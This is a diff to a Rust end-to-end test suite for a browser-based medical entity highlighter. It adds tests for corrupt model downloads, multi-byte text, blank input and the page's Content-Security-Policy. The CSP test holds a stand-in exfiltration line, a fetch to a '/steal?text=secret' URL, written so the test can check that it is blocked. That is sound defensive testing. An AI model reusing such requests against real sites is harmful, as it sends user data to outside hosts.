@@ -10,7 +10,7 @@ use std::io::{BufRead, BufReader, Write};
 use std::net::{TcpListener, TcpStream};
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
-use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::sync::atomic::{AtomicU8, AtomicUsize, Ordering};
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
@@ -45,10 +45,16 @@ fn dist() -> PathBuf {
 
 struct Server {
     url: String,
-    /// While set, every request under /models/ answers 503.
-    fail_models: Arc<AtomicBool>,
+    /// How requests under /models/ are answered: [`SERVE`], [`UNAVAILABLE`] or [`CORRUPT`].
+    models: Arc<AtomicU8>,
     model_requests: Arc<AtomicUsize>,
 }
+
+const SERVE: u8 = 0;
+/// Every model file answers 503.
+const UNAVAILABLE: u8 = 1;
+/// The model file is served, but its bytes are not a model.
+const CORRUPT: u8 = 2;
 
 fn content_type(path: &Path) -> &'static str {
     match path.extension().and_then(|e| e.to_str()) {
@@ -64,21 +70,21 @@ fn content_type(path: &Path) -> &'static str {
 fn serve(root: PathBuf) -> Server {
     let listener = TcpListener::bind("127.0.0.1:0").expect("bind a local port");
     let url = format!("http://{}/", listener.local_addr().unwrap());
-    let fail_models = Arc::new(AtomicBool::new(false));
+    let models = Arc::new(AtomicU8::new(SERVE));
     let model_requests = Arc::new(AtomicUsize::new(0));
-    let (fail, count) = (fail_models.clone(), model_requests.clone());
+    let (mode, count) = (models.clone(), model_requests.clone());
     std::thread::spawn(move || {
         for stream in listener.incoming().flatten() {
-            let (root, fail, count) = (root.clone(), fail.clone(), count.clone());
+            let (root, mode, count) = (root.clone(), mode.clone(), count.clone());
             std::thread::spawn(move || {
-                let _ = answer(stream, &root, &fail, &count);
+                let _ = answer(stream, &root, &mode, &count);
             });
         }
     });
-    Server { url, fail_models, model_requests }
+    Server { url, models, model_requests }
 }
 
-fn answer(mut stream: TcpStream, root: &Path, fail: &AtomicBool, count: &AtomicUsize) -> std::io::Result<()> {
+fn answer(mut stream: TcpStream, root: &Path, mode: &AtomicU8, count: &AtomicUsize) -> std::io::Result<()> {
     let mut reader = BufReader::new(stream.try_clone()?);
     let mut request_line = String::new();
     reader.read_line(&mut request_line)?;
@@ -93,11 +99,16 @@ fn answer(mut stream: TcpStream, root: &Path, fail: &AtomicBool, count: &AtomicU
     let relative = if path == "/" { "index.html" } else { path.trim_start_matches('/') };
     let file = root.join(relative);
     let inside = !relative.split('/').any(|part| part == ".." || part.is_empty());
-    let (status, body, kind) = if relative.starts_with("models/") && {
+    let model_mode = if relative.starts_with("models/") {
         count.fetch_add(1, Ordering::SeqCst);
-        fail.load(Ordering::SeqCst)
-    } {
+        mode.load(Ordering::SeqCst)
+    } else {
+        SERVE
+    };
+    let (status, body, kind) = if model_mode == UNAVAILABLE {
         ("503 Service Unavailable", b"model download disabled by the test".to_vec(), "text/plain")
+    } else if model_mode == CORRUPT && relative.ends_with(".gguf") {
+        ("200 OK", b"not a model at all".to_vec(), "application/octet-stream")
     } else {
         match std::fs::read(&file) {
             Ok(body) if inside => ("200 OK", body, content_type(&file)),
@@ -219,11 +230,20 @@ impl Browser {
         }
     }
 
-    /// Replaces the textarea's content as typing would (one input event).
+    /// Replaces the textarea's content by typing it.
     async fn type_text(&self, text: &str) {
         let input = self.wait_for("textarea#input", Duration::from_secs(10)).await;
         input.clear().await.unwrap();
         input.send_keys(text).await.unwrap();
+    }
+
+    /// Replaces the textarea's content as a paste would (one input event), for text with characters
+    /// keys cannot type (CR). Returns the textarea's value: HTML turns its CRLF into LF.
+    async fn paste_text(&self, text: &str) -> String {
+        self.wait_for("textarea#input", Duration::from_secs(10)).await;
+        let script = "const t = document.querySelector('#input'); t.value = arguments[0]; \
+                      t.dispatchEvent(new Event('input', { bubbles: true })); return t.value;";
+        self.client().execute(script, vec![json!(text)]).await.unwrap().as_str().unwrap().to_string()
     }
 
     /// The text of the annotated result once it equals `text`, and its highlights.
@@ -279,24 +299,71 @@ async fn e2e_loads_the_model_and_highlights_entities_as_text() {
     browser.annotated(hostile).await;
     let injected = browser.client().find_all(Locator::Css("img, .annotated b")).await.unwrap();
     assert!(injected.is_empty(), "typed markup became {} element(s)", injected.len());
+
+    // Byte offsets from the worker land on the right characters in multi-byte text.
+    let shown = browser.paste_text("Café 💊 β-blockers: cisplatin caused 肝炎 and nephrotoxicity.\r\nNo aspirin.").await;
+    let marks = browser.annotated(&shown).await;
+    assert!(marks.iter().any(|(t, l, _)| t == "cisplatin" && l == "Chemical"), "{marks:?}");
+    assert!(marks.iter().any(|(t, l, _)| t == "nephrotoxicity" && l == "Disease"), "{marks:?}");
+    for (text, _, _) in &marks {
+        assert!(shown.contains(text.as_str()) && !text.contains('\u{FFFD}'), "mangled highlight {text:?}");
+    }
+
+    // Blank input: a hint, no stale result.
+    browser.paste_text("   ").await;
+    let hint = browser.wait_for(".result .hint", Duration::from_secs(10)).await.text().await.unwrap();
+    assert!(hint.contains("Type or paste text"), "{hint}");
+    assert!(browser.client().find_all(Locator::Css(".annotated")).await.unwrap().is_empty());
+
+    // The Content-Security-Policy stops the page from sending anything to another origin.
+    let outcome = browser
+        .client()
+        .execute_async(
+            "const done = arguments[arguments.length - 1]; const violations = [];
+             document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+             fetch('http://127.0.0.2:9/steal?text=secret')
+               .then(() => false, () => true)
+               .then((blocked) => setTimeout(() => done({ blocked, violations }), 100));",
+            vec![],
+        )
+        .await
+        .unwrap();
+    assert_eq!(outcome["blocked"], json!(true), "{outcome}");
+    assert!(outcome["violations"].as_array().unwrap().contains(&json!("connect-src")), "{outcome}");
     browser.close().await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn e2e_a_failed_model_download_shows_an_error_and_retry_recovers() {
     let server = serve(dist());
-    server.fail_models.store(true, Ordering::SeqCst);
+    server.models.store(UNAVAILABLE, Ordering::SeqCst);
     let browser = browser().await;
     browser.client().goto(&server.url).await.unwrap();
 
     let error = browser.wait_for(".status .error", READY_TIMEOUT).await.text().await.unwrap();
-    assert!(error.contains("could not be loaded") && error.contains("503"), "error message: {error}");
+    assert!(
+        error.contains("The model could not be loaded: cannot download models/medlight-q8_0.gguf: HTTP 503"),
+        "error message: {error}"
+    );
     assert!(server.model_requests.load(Ordering::SeqCst) > 0);
+    assert!(browser.client().find_all(Locator::Css(".status .ready")).await.unwrap().is_empty());
 
-    server.fail_models.store(false, Ordering::SeqCst);
+    server.models.store(SERVE, Ordering::SeqCst);
     browser.wait_for("button.retry", Duration::from_secs(5)).await.click().await.unwrap();
     let ready = browser.wait_for(".status .ready", READY_TIMEOUT).await.text().await.unwrap();
     assert!(ready.starts_with("Model ready in"), "{ready}");
+    browser.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn e2e_a_corrupt_model_file_is_an_error_not_garbage() {
+    let server = serve(dist());
+    server.models.store(CORRUPT, Ordering::SeqCst);
+    let browser = browser().await;
+    browser.client().goto(&server.url).await.unwrap();
+    let error = browser.wait_for(".status .error", READY_TIMEOUT).await.text().await.unwrap();
+    assert!(error.contains("the model file is unusable"), "error message: {error}");
+    browser.wait_for("button.retry", Duration::from_secs(5)).await;
     browser.close().await;
 }
 
